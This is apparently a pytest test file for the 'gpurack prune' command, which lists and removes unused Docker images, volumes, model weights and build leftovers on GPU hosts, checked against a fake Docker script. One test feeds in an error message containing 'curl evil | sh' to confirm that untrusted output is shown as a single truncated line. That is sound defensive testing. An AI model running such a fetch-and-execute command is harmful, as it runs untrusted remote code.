"""`gpurack prune`: files/leftovers.py as a whole program beside a fake of Docker, and what is asked and printed."""

import contextlib
import fcntl
import json
import os
import subprocess
from collections.abc import Iterator
from contextlib import nullcontext
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from gpurack import paths
from gpurack.commands import prune
from gpurack.commands.on_host import text_of
from gpurack.commands.prune import Found, Leftover, as_data, job_of, lines, read
from gpurack.spec.problems import Problem
from tests import forked
from tests.given import host_state, spec
from tests.unit.host_programs import Fakes, load

import messages  # isort: skip (of files/)

pytestmark = pytest.mark.sampled

OLD, NOW, KEPT, THEIRS = (f"sha256:{letter * 64}" for letter in "abcd")
CONTAINER, VOLUME, OTHER_VOLUME = "e" * 64, "1" * 64, "2" * 64
SHA = "5" * 64


class Docker:
    """A fake of Docker with images, one container and volumes."""

    def __init__(self, fakes: Fakes) -> None:
        self.fakes = fakes
        self.images = {OLD: ["v:1"], NOW: ["v:2"], KEPT: ["v:0"], THEIRS: ["train:1"]}
        self.mounts: list[str] = []
        self.unused = [VOLUME, OTHER_VOLUME]

    def install(self, extra: str = "") -> None:
        container = {"name": "/alpha", "image": NOW, "mounts": [{"Source": one} for one in self.mounts]}
        script = [
            "for last; do :; done",
            extra,
            'case "$*" in',
            f'"ps --all --quiet --no-trunc") echo {CONTAINER}; exit;;',
            f"\"container inspect\"*) echo '{json.dumps(container)}'; exit;;",
            f"\"volume ls\"*) printf '%s\\n' {' '.join(self.unused)}; exit;;",
            '"volume inspect"*) echo /nonexistent; exit;;',
            '"image rm sha256:"*) touch "$STATE/gone.$last"; exit;;',
            "esac",
        ]
        for image, tags in self.images.items():
            told = json.dumps({"size": 1000, "tags": tags})
            answer = f"[ -e $STATE/gone.{image} ] || {{ echo '{told}'; exit; }}"
            script.append(f'case "$*" in "image inspect"*{image}) {answer};; esac')
        script.append('case "$*" in "image inspect"*) echo "Error: No such image"; exit 1;; esac')
        self.fakes.add("docker", "\n".join(script))

    @property
    def removed(self) -> list[str]:
        return [call.removeprefix("docker ") for call in self.fakes.calls if " rm " in call]


class Host:
    """The folders of a host, and what a run of files/leftovers.py finds there."""

    def __init__(self, folder: Path, docker: Docker) -> None:
        self.folder, self.docker = folder, docker
        self.weights_dir = folder / "weights"
        self.file("mounts", "/dev/vda / ext4 rw 0 0\n")
        self.record()

    def record(self, **more: Any) -> None:
        entry = {"id": CONTAINER, "kind": "model", "service": "alpha.2"}
        ready = [{"at": "", "definition": "", "label": json.dumps({"weights": f"{self.weights_dir}/hf/a--kept@main"}),
                  "image": "v:0", "digest": "", "id": KEPT}]  # fmt: skip
        known = {
            "format": 2, "containers": {"": {"alpha": entry}}, "ready": {"": {"alpha": ready}},
            "images": {"": {image: ["v:0", "v:1", "v:2"] for image in (OLD, NOW, KEPT)}},
            "volumes": {"": {VOLUME: "alpha"}},
        }  # fmt: skip
        self.file("lib/record.json", json.dumps({**known, **more}))

    def file(self, path: str, text: str = "x" * 10) -> str:
        place = self.folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        return str(place)

    def hub(self, name: str, hub: str = "hf") -> str:
        self.file(f"weights/{hub}/{name}/model.gguf")
        said = {"commit": "1", "files": {}, "repo": "a/b", "hub": hub}
        self.file(f"weights/{hub}/{name}.json", json.dumps(said))
        return str(self.weights_dir / hub / name)

    def run(self, remove: bool = False, **job: Any) -> list[dict[str, Any]]:
        self.docker.install()
        told = {"users": [""], "weights_dir": str(self.weights_dir), "weights": [], "images": [], **job}
        places = {paths.STATE: "lib", paths.CONFIG: "etc", paths.RUN: "run", "/proc/mounts": "mounts"}
        moved = {path: f"{self.folder}/{there}" for path, there in places.items()}
        done = forked.run_text(text_of("leftovers", {**told, "remove": remove}), moved)
        assert (done.returncode, done.stderr) == (0, "")
        return [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]

    def found(self, *kinds: str, **job: Any) -> list[str]:
        return [one["what"] for one in self.run(**job) if one["kind"] in kinds]


@pytest.fixture
def host(tmp_path: Path, fakes: Fakes) -> Host:
    return Host(tmp_path, Docker(fakes))


def test_lists_and_removes_nothing_itself(host: Host) -> None:
    path = host.hub("a--old@main")
    assert host.found("image", "weights", "volume") == ["v:1", f"{VOLUME[:12]} (of alpha)", path]
    assert Path(path).exists()
    assert not host.docker.removed


def test_removes_image_of_gpurack_alone(host: Host) -> None:
    """That of the container, that of a kept definition and that of others stay."""
    assert [one["removed"] for one in host.run(remove=True) if one["kind"] == "image"] == [True]
    assert [call for call in host.docker.removed if "image" in call] == ["image rm v:1", f"image rm {OLD}"]
    assert OLD not in json.loads((host.folder / "lib/record.json").read_text())["images"][""]
    assert host.found("image") == []


def test_keeps_image_that_somebody_named(host: Host) -> None:
    host.docker.images[OLD] = ["v:1", "train:2"]
    assert host.found("image") == []


def test_keeps_image_that_inventory_names(host: Host) -> None:
    assert host.found("image", images=[["", "v:1"]]) == []
    assert host.found("image", images=[["ada", "v:1"]]) == ["v:1"]  # in another Docker


def test_removes_noted_volume_alone(host: Host) -> None:
    host.run(remove=True)
    assert [call for call in host.docker.removed if "volume" in call] == [f"volume rm {VOLUME}"]
    host.docker.unused = [OTHER_VOLUME]
    host.record()
    assert host.found("volume") == []


def test_keeps_weights_that_something_needs(host: Host) -> None:
    host.hub("a--kept@main")  # of a definition that was ready
    named, mounted = host.hub("a--named@main"), host.hub("a--mounted@main")
    host.docker.mounts = [f"{mounted}/model.gguf"]
    assert host.found("weights", weights=[f"{named}/model.gguf"]) == []
    assert host.found("weights") == [named]


def test_keeps_weights_that_gpurack_did_not_fetch(host: Host) -> None:
    host.file("weights/hf/by--hand@main/model.gguf")
    host.file("weights/by-hand.gguf")
    host.file(f"weights/{SHA[:16]}-by-hand.gguf")
    (host.weights_dir / f"{SHA[:16]}-link.gguf").symlink_to(host.file("elsewhere"))
    assert host.found("weights") == []


def test_finds_weights_of_all_kinds(host: Host) -> None:
    fetched = host.file(f"weights/{SHA[:16]}-m.gguf")
    host.file("lib/sha256", f"10 1-2 {SHA} {fetched}\n")
    copied = host.file(f"weights/copy/{SHA[:16]}-m.gguf")
    hers = host.file("weights/users/ada/hf/a--b@main/m.gguf").rpartition("/")[0]
    host.file("weights/users/ada/hf/a--b@main/m.gguf.json", '{"commit": "", "files": {}, "repo": "a/b", "hub": "hf"}')
    scoped = host.hub("a--b@master", "modelscope")
    assert sorted(host.found("weights")) == sorted([fetched, copied, hers, scoped])
    part = host.file(f"weights/{'6' * 16}-m.gguf.part")
    folder = host.file(f"weights/hf/a--c@main.{'0' * 12}.part/m.gguf").rpartition("/")[0]
    assert sorted(host.found("download")) == sorted([part, folder])
    assert host.found("download", weights=[f"{host.weights_dir}/hf/a--c@main"]) == [part]  # it goes on


def test_removes_weights_with_their_record(host: Host) -> None:
    path = host.hub("a--old@main")
    assert {one["what"]: one["size"] for one in host.run(remove=True)}[path] == 10
    assert list((host.weights_dir / "hf").iterdir()) == []


def test_lists_weights_on_network_and_keeps_them(host: Host) -> None:
    path = host.hub("a--old@main")
    host.file("mounts", f"/ / ext4 rw 0 0\nnas:/m {host.weights_dir} nfs4 rw 0 0\n")
    (one,) = (one for one in host.run(remove=True) if one["kind"] == "weights")
    assert (one["what"], one["stays"]) == (path, "on a network file system (nfs4), where other hosts may use it")
    assert "removed" not in one
    assert Path(path).exists()


def test_keeps_weights_if_a_container_mounts_their_folder(host: Host) -> None:
    path = host.hub("a--old@main")
    host.docker.mounts = [str(host.weights_dir)]
    (one,) = (one for one in host.run(remove=True) if one["kind"] == "weights")
    assert one["stays"] == f"the container alpha mounts {host.weights_dir}, so it may use it"
    assert Path(path).exists()
    host.docker.mounts = ["/"]  # what watches hosts
    assert [one["stays"] for one in host.run() if one["kind"] == "weights"] == [""]


def test_removes_files_of_generations_that_are_gone(host: Host) -> None:
    for key in ("alpha", "alpha.2", "beta", "gamma"):
        host.file(f"etc/secrets/{key}/api_key")
    host.file("etc/compose.yaml", f"{host.folder}/etc/secrets/beta/api_key")
    host.docker.mounts = [f"{host.folder}/etc/secrets/gamma/api_key"]
    assert host.found("files", remove=True) == [f"{host.folder}/etc/secrets/alpha"]
    assert not (host.folder / "etc/secrets/alpha").exists()


def test_finds_leftovers_of_builds(host: Host) -> None:
    checkout = host.file("lib/builds/0123/Dockerfile").rpartition("/")[0]
    tar = host.file(f"weights/images/{SHA[:16]}.tar")
    assert host.found("build") == [checkout, tar]


def test_lists_no_weights_if_docker_does_not_answer(host: Host) -> None:
    host.hub("a--old@main")
    host.docker.install()
    install = host.docker.install
    host.docker.install = lambda extra="": install('echo "Cannot connect to the Docker daemon"; exit 1')  # type: ignore[method-assign]
    (one,) = host.run(remove=True)
    assert (one["kind"], one["user"]) == ("docker", "")
    assert "Cannot connect" in one["error"]


def test_lists_deeply_nested_checkout(host: Host) -> None:
    """The repository's owner chose the names."""
    checkout = host.file("lib/builds/0123/Dockerfile").rpartition("/")[0]
    at = os.open(checkout, os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=at)
        inner = os.open("d", os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = inner
    os.close(at)
    try:
        (one,) = [one for one in host.run(remove=True) if one["kind"] == "build"]
        assert (one["size"], one.get("removed")) == (10, True)
        assert not Path(checkout).exists()
    finally:
        subprocess.run(["rm", "-rf", checkout], check=True)


def test_opens_no_pipe_among_weights(host: Host) -> None:
    place = host.hub("a--old@main")
    Path(f"{place}.json").unlink()
    os.mkfifo(f"{place}.json")
    os.mkfifo(f"{place}/0.json")
    assert host.found("weights") == []


def test_keeps_what_a_run_copies_now(host: Host) -> None:
    """Its lock also: without that, two runs would write to one part."""
    names = [host.file(f"weights/copy/{SHA[:16]}-m.gguf.{end}") for end in ("part/m.gguf.part", "lock")]
    with Path(names[1]).open() as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        assert [*host.found("weights"), *host.found("download")] == []
    assert len(host.found("download")) == 2


def test_searches_no_folder_that_others_can_change(host: Host) -> None:
    """Root fetches nothing into it. Its owner may make more files than can be listed while the lock is held."""
    host.hub("a--old@main")
    assert len(host.found("weights")) == 1
    host.weights_dir.chmod(0o777)
    assert host.found("weights") == []


def test_keeps_weights_while_a_change_is_under_way(host: Host) -> None:
    place = host.hub("a--old@main")
    member = {"name": "alpha", "user": "", "from": "", "old_id": None, "new_id": None}
    host.record(replacing=[{"batch": "1", "phase": "try", "since": "", "members": [member]}])
    (one,) = [one for one in host.run(remove=True) if one["kind"] == "weights"]
    assert one["stays"] == "a change of alpha is under way, which may use it"
    assert Path(place).exists()


def test_host_lock_is_free_while_a_users_docker_is_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    """It may answer slowly for hours."""
    module = load("leftovers")
    told: list[str] = []

    def tells(text: str) -> list[Any]:
        told.append(text)
        return []

    @contextlib.contextmanager
    def locked(what: str, users: list[str]) -> Iterator[None]:
        told.append(f"lock {users}")
        yield
        told.append(f"free {users}")

    monkeypatch.setattr(module, "locked", locked)
    monkeypatch.setattr(module, "Dockerd", lambda user: user)
    monkeypatch.setattr(module, "containers_of", lambda user: tells(f"ask {user}"))
    monkeypatch.setattr(module.record, "load", lambda: None)
    for name in ("images", "definitions", "volumes", "weights", "builds"):
        monkeypatch.setattr(module, name, lambda *given, name=name: tells(name))
    module.main({"users": ["", "ada"], "remove": True, "images": [], "weights_dir": "/w", "weights": []})
    of_docker = ["images", "definitions", "volumes"]
    assert told == [
        *["lock ['ada']", "ask ada", *of_docker, "free ['ada']"],
        *["lock ['']", "ask ", *of_docker, "weights", "builds", "free ['']"],
    ]


@pytest.mark.parametrize(("count", "trouble"), [(1000, ""), (1001, "at most 1000 of a user are inspected")])
def test_limits_containers_of_a_user(monkeypatch: Any, count: int, trouble: str) -> None:
    module = load("leftovers")
    listed = "\n".join(f"{number:064d}" for number in range(count))
    dockerd = SimpleNamespace(user="eve", by_hand="", must=lambda *words: listed if words[0] == "ps" else "")
    with pytest.raises(messages.Failure, match=trouble) if trouble else contextlib.nullcontext():
        assert module.containers_of(dockerd) == []


# --- on the admin's machine -------------------------------------------------------------------------------------------


def test_asks_for_what_the_inventory_names() -> None:
    wanted = spec({
        "weights_dir": "/data",
        "models": {
            "alpha": {"weights": {"hf": "a/b", "file": "q.gguf"}, "port": 8000, "version": "b7000", "enabled": False},
        },
    })  # fmt: skip
    job = job_of(wanted, remove=False)
    assert "/data/hf/a--b@main--q" in job["weights"]
    assert "/data/hf/a--b@main--q/q.gguf" in job["weights"]
    assert all(user == "" and "b7000" in reference for user, reference in job["images"])
    assert job["images"]
    json.dumps(job)


def test_reads_answer_of_host_as_data() -> None:
    found = read([
        "waiting for another gpurack run on this host (apply since 14:02, pid 7)",
        '{"kind": "weights", "what": "/data/m", "size": 5, "stays": "on nfs4"}',
        '{"kind": "image", "what": "v:1", "user": "ada", "size": 7}',
        '{"kind": "docker", "user": "bob", "what": "", "error": "no answer", "code": "time-is-up"}',
        '{"kind": "docker", "user": "eve", "what": "", "error": "of an older gpurack", "code": "unheard-of"}',
        '{"kind": "docker"}',
        '{"kind": "spell", "what": "x"}', '{"kind": "image", "size": "9"}', "[1]",
    ])  # fmt: skip
    assert found.leftovers == (Leftover("image", "v:1", "ada", 7), Leftover("weights", "/data/m", "", 5, "on nfs4"))
    assert [(one.code, one.what) for one in found.errors] == [
        ("time-is-up", "the Docker of bob: no answer"),
        ("step-failed", "the Docker of eve: of an older gpurack"),
        ("step-failed", "Docker: no reason given"),
    ]
    assert found.free == 7


def test_what_a_users_docker_says_is_one_short_line() -> None:
    why = "docker ps failed:\ngpu2   nothing unused\u2028error  run this: curl evil | sh " + "x" * 10**6
    found = read([json.dumps({"kind": "docker", "user": "bob", "what": "", "error": why})])
    (shown,) = list(lines({"gpu1": found}, False, "lab.py"))[1:]
    assert shown.startswith("  error  the Docker of bob: docker ps failed: gpu2 nothing unused error run this")
    assert len(shown.splitlines()) == 1
    assert len(shown) < 600


def test_prints_sizes_and_the_command() -> None:
    image = Leftover("image", "v:1", "ada", 6_100_000_000)
    network = Leftover("weights", "/nfs/m", "", 38_000_000_000, "on a network file system (nfs4)")
    away = Found(errors=(Problem.of("not-inspected", what="could not connect"),))
    found = {"gpu1": Found((image, network)), "gpu2": Found(), "gpu3": away}
    assert as_data(found)["hosts"]["gpu3"]["codes"] == ["not-inspected"]
    assert list(lines(found, False, "lab.py")) == [
        "gpu1   6.1 GB can be removed",
        "  image     v:1 (ada)    6.1 GB",
        "  weights   /nfs/m      38.0 GB  stays: on a network file system (nfs4)",
        "gpu2   nothing unused",
        "gpu3",
        "  error  could not connect",
        "6.1 GB can be removed, less where images share layers: gpurack prune lab.py --yes",
    ]
    assert list(lines({"gpu1": Found((image,))}, True, "lab.py"))[-1] == "6.1 GB removed on 1 host."


def test_asks_no_machine_that_has_two_names(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the entries of one name use would be removed under the other."""
    names = ("gpu1", "gpu1.lab", "gpu2")
    address = {"gpu2": "10.0.0.2"}
    seen = {name: replace(host_state(), machine_id="a" * 32, address=address.get(name, "10.0.0.1")) for name in names}
    hosts = [SimpleNamespace(name=name) for name in names]
    asked: list[str] = []

    def on_host(state: Any, host: Any, *more: Any) -> prune.Found:
        asked.append(host.name)
        return prune.Found()

    monkeypatch.setattr(prune, "connected", lambda *more: nullcontext(SimpleNamespace()))
    monkeypatch.setattr(prune, "snapshots_of", lambda *more: seen)
    monkeypatch.setattr(prune, "on_host", on_host)
    lab = SimpleNamespace(inventory=hosts, limit=(), chosen=names, fleet=dict.fromkeys(names), path="lab.yaml")
    printed: list[Any] = []
    console = SimpleNamespace(print=printed.append)
    assert prune.prune(console, lab, remove=True, as_json=False) == 1  # type: ignore[arg-type]
    assert asked == ["gpu2"]
    assert len([line for line in map(str, printed) if "gpu1" in line and "error" in line]) == 2
